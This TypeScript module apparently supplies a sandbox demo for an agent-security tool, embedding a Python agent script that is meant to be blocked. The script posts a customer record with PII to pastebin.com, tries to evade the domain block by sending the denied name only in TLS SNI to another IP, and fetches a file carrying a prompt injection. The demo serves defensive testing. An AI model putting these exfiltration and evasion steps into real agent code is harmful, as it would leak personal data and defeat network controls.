/**
 * The agent the demo runs in its sandbox: python3 with the standard library only, written the way an
 * agent is written without declaw in mind. It reports each step as one JSON line on stdout, which the
 * demo parses (examples/demo/agent.py is the same script, to read or run by hand).
 */

/** The customer record of seed 001, with a card added. */
export const CUSTOMER_RECORD =
  'John Smith, SSN 123-45-6789, email john@example.com, card 4111 1111 1111 1111';

/** The raw PII values the upstream must never see and the agent must get back. */
export const RAW_PII: Readonly<Record<string, string>> = Object.freeze({
  ssn: '123-45-6789',
  email: 'john@example.com',
  credit_card: '4111 1111 1111 1111',
});

/** The internal code name the policy's transformation rule rewrites on the way out. */
export const CODENAME = 'Project Falcon';

/** The denied domain the agent tries to reach. */
export const DENIED_DOMAIN = 'pastebin.com';

/** Where the agent writes its script inside the sandbox. */
export const AGENT_PATH = '/workspace/agent.py';

/** The script. Steps: `chat` (PII + secret to the LLM), `denied_name`, `denied_address`, `injection`. */
export const AGENT_SCRIPT = `import json, os, socket, ssl, urllib.error, urllib.request

API = "https://api.openai.com"
KEY = os.environ["OPENAI_API_KEY"]

def report(step, **fields):
    print(json.dumps({"step": step, **fields}), flush=True)

def call(method, url, body=None, headers=None):
    data = json.dumps(body).encode() if body is not None else None
    req = urllib.request.Request(url, data=data, method=method, headers=headers or {})
    try:
        with urllib.request.urlopen(req, timeout=15) as r:
            return r.status, r.read().decode()
    except urllib.error.HTTPError as e:
        return e.code, e.read().decode()

# 1. Send a customer record and the API key to the LLM, as any agent would.
prompt = "Summarize this customer record for ${CODENAME}: ${CUSTOMER_RECORD}"
status, text = call("POST", API + "/v1/chat/completions",
    {"model": "gpt-4o-mini", "messages": [{"role": "user", "content": prompt}]},
    {"Content-Type": "application/json", "Authorization": "Bearer " + KEY})
reply = json.loads(text)["choices"][0]["message"]["content"] if status == 200 else text
report("chat", status=status, sent=prompt, reply=reply,
       key_is_placeholder=KEY.startswith("declaw_secret_"))

# 2. Try to upload the record to a domain the policy does not allow, by name...
try:
    status, text = call("POST", "https://${DENIED_DOMAIN}/api/api_post.php", {"paste": prompt})
    report("denied_name", reached=True, status=status)
except Exception as e:
    report("denied_name", reached=False, error=type(e).__name__ + ": " + str(e))

# ...and by address, naming the domain only in TLS, as malware that skips DNS would.
try:
    addr = socket.getaddrinfo("api.openai.com", 443, socket.AF_INET)[0][4][0]
    raw = socket.create_connection((addr, 443), timeout=10)
    tls = ssl.create_default_context().wrap_socket(raw, server_hostname="${DENIED_DOMAIN}")
    tls.sendall(b"GET / HTTP/1.1\\r\\nHost: ${DENIED_DOMAIN}\\r\\nConnection: close\\r\\n\\r\\n")
    report("denied_address", reached=True, answer=tls.recv(200).decode(errors="replace"))
except Exception as e:
    report("denied_address", reached=False, error=type(e).__name__ + ": " + str(e))

# 3. Fetch a document the LLM host serves; this one carries a prompt injection.
status, text = call("GET", API + "/v1/files/file-demo/content", headers={"Authorization": "Bearer " + KEY})
report("injection", status=status, body=text[:2000])
`;
